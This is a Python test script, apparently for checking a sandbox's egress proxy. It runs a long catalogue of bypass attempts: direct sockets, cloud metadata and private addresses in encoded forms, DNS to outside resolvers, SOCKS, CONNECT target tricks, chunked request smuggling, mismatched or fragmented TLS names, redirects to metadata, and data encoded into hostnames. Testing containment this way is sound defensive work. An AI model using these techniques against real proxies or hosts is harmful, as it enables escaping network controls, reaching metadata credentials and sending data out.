"""Ways to reach what nobody listed, run by the interpreter of the host: `python3 - NAME FACTS`, this file as its input.

Each gets facts as JSON: the sockets that there are to reach. What was reached is judged by the listeners, so nothing is
said here but that it was tried.
"""

import contextlib
import json
import socket
import ssl
import struct
import sys
import threading
import urllib.request
from collections.abc import Callable

Facts = dict[str, str]
Attempt = Callable[[Facts], object]
BEGUN = "begun"
SECONDS = 4.0
HELLO = b"GET / HTTP/1.1\r\nHost: other.example\r\n\r\n"
LISTED, OTHER = "shop.example", "other.example"
TLS = ssl.create_default_context()
TLS.check_hostname, TLS.verify_mode = False, ssl.CERT_NONE
PORT = 3128


def find_family(host: str) -> socket.AddressFamily:
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def tcp(
    host: str, port: int, data: bytes = HELLO, protocol: int = 0, option: tuple[int, int, bytes] | None = None
) -> Attempt:
    def attempt(facts: Facts) -> None:
        with socket.socket(find_family(host), socket.SOCK_STREAM, protocol) as connection:
            connection.settimeout(SECONDS)
            if option is not None:
                connection.setsockopt(*option)
            connection.connect((host, port))
            connection.sendall(data)
            connection.recv(100)

    return attempt


def udp(host: str, port: int, data: bytes = b"hello") -> Attempt:
    def attempt(facts: Facts) -> None:
        with socket.socket(find_family(host), socket.SOCK_DGRAM) as sender:
            sender.sendto(data, (host, port))
            sender.settimeout(0.2)
            sender.recv(100)

    return attempt


def ask(name: str) -> bytes:
    labels = b"".join(bytes([len(each)]) + each for each in name.encode().split(b"."))
    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)


def ask_over_tcp(facts: Facts) -> None:
    query = ask("over-tcp.other.example")
    tcp("8.8.8.8", 53, struct.pack("!H", len(query)) + query)(facts)


def fast_open(facts: Facts) -> None:
    with socket.socket() as connection:
        connection.settimeout(SECONDS)
        connection.sendto(HELLO, socket.MSG_FASTOPEN, ("93.184.216.34", 80))


def unconnected(facts: Facts) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendmsg([b"hello"], [], 0, ("93.184.216.34", 443))


def without_waiting(facts: Facts) -> None:
    with socket.socket() as connection:
        connection.setblocking(False)
        connection.connect_ex(("93.184.216.34", 80))
        threading.Event().wait(0.3)


def from_a_thread(facts: Facts) -> None:
    threads = [threading.Thread(target=tcp("93.184.216.34", 80), args=(facts,)) for _ in range(3)]
    for each in threads:
        each.start()
    for each in threads:
        each.join()


def unix(kind: int, place: str) -> Attempt:
    def attempt(facts: Facts) -> None:
        address = facts["socket"] + (".datagrams" if kind == socket.SOCK_DGRAM else "")
        with socket.socket(socket.AF_UNIX, kind) as connection:
            connection.settimeout(SECONDS)
            connection.connect("\0" + facts["name"] if place == "name" else address)
            connection.sendall(b"hello")

    return attempt


def open_proxy() -> socket.socket:
    connection = socket.create_connection(("127.0.0.1", PORT), SECONDS)
    connection.settimeout(SECONDS)
    return connection


def read_head(connection: socket.socket) -> bytes:
    text = b""
    while b"\r\n\r\n" not in text:
        part = connection.recv(4_096)
        if not part:
            break
        text += part
    return text


def raw(head: str | bytes, data: bytes = HELLO, *, slowly: bool = False) -> Attempt:
    """Send a request as it is, and something after its answer."""

    def attempt(facts: Facts) -> None:
        with open_proxy() as connection:
            text = head if isinstance(head, bytes) else head.encode()
            for part in [bytes([each]) for each in text] if slowly else [text]:
                connection.sendall(part)
            read_head(connection)
            connection.sendall(data)
            connection.recv(4_096)

    return attempt


def connect(target: str, data: bytes = HELLO, more: str = "") -> Attempt:
    return raw(f"CONNECT {target} HTTP/1.1\r\n{more}\r\n", data)


def tls(target: str, name: str | None) -> Attempt:
    """Ask for a target, and name another host in TLS."""

    def attempt(facts: Facts) -> None:
        with open_proxy() as connection:
            connection.sendall(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
            if b" 200 " not in read_head(connection):
                return
            with TLS.wrap_socket(connection, server_hostname=name) as secured:
                secured.sendall(b"GET / HTTP/1.1\r\nHost: " + (name or OTHER).encode() + b"\r\n\r\n")
                secured.recv(4_096)

    return attempt


def make_hello(*names: bytes, kind: int = 0) -> bytes:
    """Make the first message of TLS with any names."""
    entries = b"".join(bytes([kind]) + struct.pack("!H", len(each)) + each for each in names)
    extension = struct.pack("!H", len(entries)) + entries
    extensions = struct.pack("!HH", 0, len(extension)) + extension if names else b""
    extensions += struct.pack("!HHBH", 43, 3, 2, 0x0304)
    body = b"\x03\x03" + bytes(32) + b"\0" + b"\0\x04\x13\x01\xc0\x2f" + b"\x01\0"
    body += struct.pack("!H", len(extensions)) + extensions
    return b"\x01" + len(body).to_bytes(3, "big") + body


def in_records(message: bytes, size: int = 16_384) -> bytes:
    parts = [message[each : each + size] for each in range(0, len(message), size)]
    return b"".join(b"\x16\x03\x01" + struct.pack("!H", len(each)) + each for each in parts)


def hello(*names: str, size: int = 16_384, before: bytes = b"", kind: int = 0) -> Attempt:
    message = make_hello(*(each.encode() for each in names), kind=kind)
    return connect(f"{LISTED}:443", before + in_records(message, size))


def redirect(path: str) -> Attempt:
    def attempt(facts: Facts) -> None:
        proxies = dict.fromkeys(("http", "https"), f"http://127.0.0.1:{PORT}")
        handlers = (urllib.request.ProxyHandler(proxies), urllib.request.HTTPSHandler(context=TLS))
        urllib.request.build_opener(*handlers).open(f"https://{LISTED}{path}", timeout=SECONDS).read()

    return attempt


def again(target: str, name: str) -> Attempt:
    def attempt(facts: Facts) -> None:
        for _ in range(4):
            with contextlib.suppress(OSError):
                tls(target, name)(facts)

    return attempt


def flood(facts: Facts) -> None:
    threads = [threading.Thread(target=quietly, args=(connect(f"{OTHER}:443"), facts)) for _ in range(40)]
    for each in threads:
        each.start()
    for each in threads:
        each.join()


def quietly(attempt: Attempt, facts: Facts) -> None:
    with contextlib.suppress(OSError, ValueError):
        attempt(facts)


def socks(facts: Facts) -> None:
    with open_proxy() as connection:
        connection.sendall(b"\x05\x01\x00")
        connection.recv(2)
        connection.sendall(b"\x05\x01\x00\x03" + bytes([len(OTHER)]) + OTHER.encode() + struct.pack("!H", 443))
        connection.recv(10)
        connection.sendall(HELLO)
        connection.recv(100)


def chunked_smuggling(facts: Facts) -> None:
    inner = f"GET http://{OTHER}/ HTTP/1.1\r\nHost: {OTHER}\r\n\r\n"
    raw(f"POST http://{LISTED}/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}")(facts)


def get(url: str, more: str = "", method: str = "GET") -> Attempt:
    return raw(f"{method} {url} HTTP/1.1\r\n{more}\r\n")


PRIVATE = {
    "loopback": "127.0.0.1",
    "another loopback": "127.7.7.7",
    "metadata": "169.254.169.254",
    "ten": "10.0.0.1",
    "172.16": "172.16.0.1",
    "192.168": "192.168.1.1",
    "carrier": "100.64.0.1",
    "nothing": "0.0.0.0",
    "platform": "168.63.129.16",
    "benchmark": "198.18.0.1",
    "loopback in IPv6": "[::1]",
    "mapped loopback": "[::ffff:127.0.0.1]",
    "mapped metadata": "[::ffff:a9fe:a9fe]",
    "unique local": "[fd00::1]",
    "metadata in IPv6": "[fd00:ec2::254]",
    "translated metadata": "[64:ff9b::a9fe:a9fe]",
    "6to4": "[2002:7f00:1::1]",
    "compatible": "[::7f00:1]",
}
ENCODED = {
    "one number": "2130706433",
    "one hexadecimal number": "0x7f000001",
    "octal": "0177.0.0.1",
    "two parts": "127.1",
    "hexadecimal parts": "0x7f.0.0.0x1",
    "one octal number": "017700000001",
    "metadata as a number": "2852039166",
    "metadata in hexadecimal": "0xa9fea9fe",
    "metadata in three parts": "169.254.43518",
    "zero": "0",
    "name of loopback": "localhost",
}
TARGETS = {
    "another host": f"{OTHER}:443",
    "another host, port 80": f"{OTHER}:80",
    "port 80": f"{LISTED}:80",
    "port 22": f"{LISTED}:22",
    "port 8443": f"{LISTED}:8443",
    "suffix": f"{LISTED}.{OTHER}:443",
    "prefix": "evilshop.example:443",
    "below": f"deep.{LISTED}:443",
    "above": "example:443",
    "data in a name": f"c2VjcmV0LXdvcmRz.{OTHER}:443",
    "address of another": "93.184.216.34:443",
    "address of the listed": "93.184.215.20:443",
    "IPv6 address of another": "[2606:2800::34]:443",
    "user": f"{LISTED}@{OTHER}:443",
    "user with port": f"{LISTED}:443@{OTHER}:443",
    "fragment": f"{OTHER}:443#{LISTED}:443",
    "path": f"{OTHER}:443/{LISTED}",
    "query": f"{OTHER}:443?{LISTED}:443",
    "scheme": f"https://{OTHER}:443",
    "two targets": f"{OTHER}:443 {LISTED}:443",
    "encoded": "%6fther.example:443",
    "upper case": f"{OTHER.upper()}:443",
    "dot at the end": f"{OTHER}.:443",
    "padded port": f"{OTHER}:00443",
}
TURNED = ("turning", "inside", "mixed", "mapped", "translated", "nowhere", "platform")
WRONG_NAME = in_records(make_hello(OTHER.encode()))

ATTEMPTS: dict[str, Attempt] = {
    # around the proxy
    "direct: another host": tcp("93.184.216.34", 80),
    "direct: another host over TLS": tcp("93.184.216.34", 443, WRONG_NAME),
    "direct: the listed host, another port": tcp("93.184.215.20", 22),
    "direct: the listed host, without TLS": tcp("93.184.215.20", 443),
    "direct: metadata": tcp("169.254.169.254", 80),
    "direct: a database": tcp("10.0.0.1", 5432),
    "direct: loopback of the host": tcp("127.0.0.1", 80),
    "direct: loopback of the host over IPv6": tcp("::1", 80),
    "direct: IPv6": tcp("2606:2800::34", 443),
    "direct: mapped IPv4": tcp("::ffff:93.184.216.34", 80),
    "direct: unique local IPv6": tcp("fd00:ec2::254", 80),
    "direct: multipath": tcp("93.184.216.34", 80, protocol=262),
    "direct: bound to an interface": tcp("93.184.216.34", 80, option=(socket.SOL_SOCKET, 25, b"lo\0")),
    "direct: fast open": fast_open,
    "direct: without waiting": without_waiting,
    "direct: from threads": from_a_thread,
    "udp: another host": udp("93.184.216.34", 443),
    "udp: IPv6": udp("2606:2800::34", 443),
    "udp: loopback of the host": udp("127.0.0.1", 123),
    "udp: private": udp("10.0.0.1", 123),
    "udp: unconnected": unconnected,
    "dns: the resolver": udp("127.0.0.1", 53, ask("by-hand.other.example")),
    "dns: another resolver": udp("8.8.8.8", 53, ask("elsewhere.other.example")),
    "dns: over TCP": ask_over_tcp,
    "dns: by the library": lambda facts: socket.getaddrinfo("by-library.other.example", 443),
    "unix: a path": unix(socket.SOCK_STREAM, "path"),
    "unix: datagrams": unix(socket.SOCK_DGRAM, "path"),
    "unix: a name": unix(socket.SOCK_STREAM, "name"),
    # through the proxy
    **{f"private: {name}": connect(f"{host}:80") for name, host in PRIVATE.items()},
    **{f"encoded: {name}": connect(f"{host}:80") for name, host in ENCODED.items()},
    **{f"target: {name}": connect(target) for name, target in TARGETS.items()},
    "request: lower case": raw(f"connect {OTHER}:443 HTTP/1.1\r\n\r\n"),
    "request: tabs": raw(f"CONNECT\t{OTHER}:443\tHTTP/1.1\r\n\r\n"),
    "unfinished: bare line feeds": raw(f"CONNECT {OTHER}:443 HTTP/1.1\n\n"),
    "request: older version": raw(f"CONNECT {OTHER}:443 HTTP/1.0\r\n\r\n"),
    "request: byte by byte": raw(f"CONNECT {OTHER}:443 HTTP/1.1\r\n\r\n", slowly=True),
    "request: another Host": connect(f"{LISTED}:443", more=f"Host: {OTHER}:443\r\n"),
    "request: another Host first": connect(f"{OTHER}:443", more=f"Host: {LISTED}:443\r\n"),
    "request: a body that is a request": raw(
        f"CONNECT none.invalid:443 HTTP/1.1\r\nContent-Length: 999\r\n\r\nCONNECT {OTHER}:443 HTTP/1.1\r\n\r\n"
    ),
    "request: two at once": raw(
        f"CONNECT none.invalid:443 HTTP/1.1\r\n\r\nCONNECT {OTHER}:443 HTTP/1.1\r\nHost: {OTHER}:443\r\n\r\n"
    ),
    "request: folded": raw(f"CONNECT {OTHER}:443 HTTP/1.1\r\nHost:\r\n {LISTED}\r\n\r\n"),
    "unfinished: SOCKS": socks,
    "request: many at once": flood,
    "plain: another host": get(f"http://{OTHER}/"),
    "plain: the listed host": get(f"http://{LISTED}/"),
    "plain: the listed host, port 443": get(f"http://{LISTED}:443/"),
    "plain: metadata": get("http://169.254.169.254/latest/meta-data/"),
    "plain: loopback": get("http://127.0.0.1/"),
    "plain: https": get(f"https://{OTHER}/"),
    "plain: by Host": get("/", more=f"Host: {OTHER}\r\n"),
    "plain: post": get(f"http://{OTHER}/", more="Content-Length: 0\r\n", method="POST"),
    "plain: upgrade": get(f"http://{OTHER}/", more="Connection: Upgrade\r\nUpgrade: websocket\r\n"),
    "plain: user": get(f"http://{LISTED}@{OTHER}/"),
    "plain: chunked": chunked_smuggling,
    # in the tunnel to the listed host
    "tls: another name": tls(f"{LISTED}:443", OTHER),
    "tls: a name below": tls(f"{LISTED}:443", f"deep.{LISTED}"),
    "tls: a longer name": tls(f"{LISTED}:443", f"{LISTED}.{OTHER}"),
    "tls: no name": tls(f"{LISTED}:443", None),
    "tls: another listed name": tls(f"{LISTED}:443", "turning.example"),
    "tls: two names": hello(LISTED, OTHER),
    "tls: two names, the other first": hello(OTHER, LISTED),
    "tls: in many records": hello(OTHER, size=1),
    "tls: in two records": hello(OTHER, size=60),
    "tls: an empty record first": hello(OTHER, before=b"\x16\x03\x01\x00\x00"),
    "tls: an alert first": hello(OTHER, before=b"\x15\x03\x01\x00\x02\x01\x00"),
    "tls: a zero in the name": hello(f"{LISTED}\0.{OTHER}"),
    "tls: a space in the name": hello(f"{LISTED} "),
    "tls: a name of another kind": hello(LISTED, kind=7),
    "tls: no name at all": hello(),
    "tunnel: plain HTTP": connect(f"{LISTED}:443"),
    "tunnel: another protocol": connect(f"{LISTED}:443", b"SSH-2.0-client\r\n"),
    "tunnel: a second request": connect(f"{LISTED}:443", f"CONNECT {OTHER}:443 HTTP/1.1\r\n\r\n".encode()),
    "tunnel: older TLS": connect(f"{LISTED}:443", b"\x80\x2e\x01\x03\x01" + bytes(43)),
    "tunnel: together with the request": raw(
        f"CONNECT {LISTED}:443 HTTP/1.1\r\n\r\n".encode() + WRONG_NAME
    ),
    **{f"names: {name}": again(f"{name}.example:443", f"{name}.example") for name in TURNED},
    "redirect: to metadata": redirect("/to-metadata"),
    "redirect: to another host": redirect("/to-another"),
    "redirect: to another port": redirect("/to-another-port"),
}  # fmt: skip


def main() -> None:
    print(BEGUN, flush=True)
    quietly(ATTEMPTS[sys.argv[1]], json.loads(sys.argv[2]))


if __name__ == "__main__":
    main()
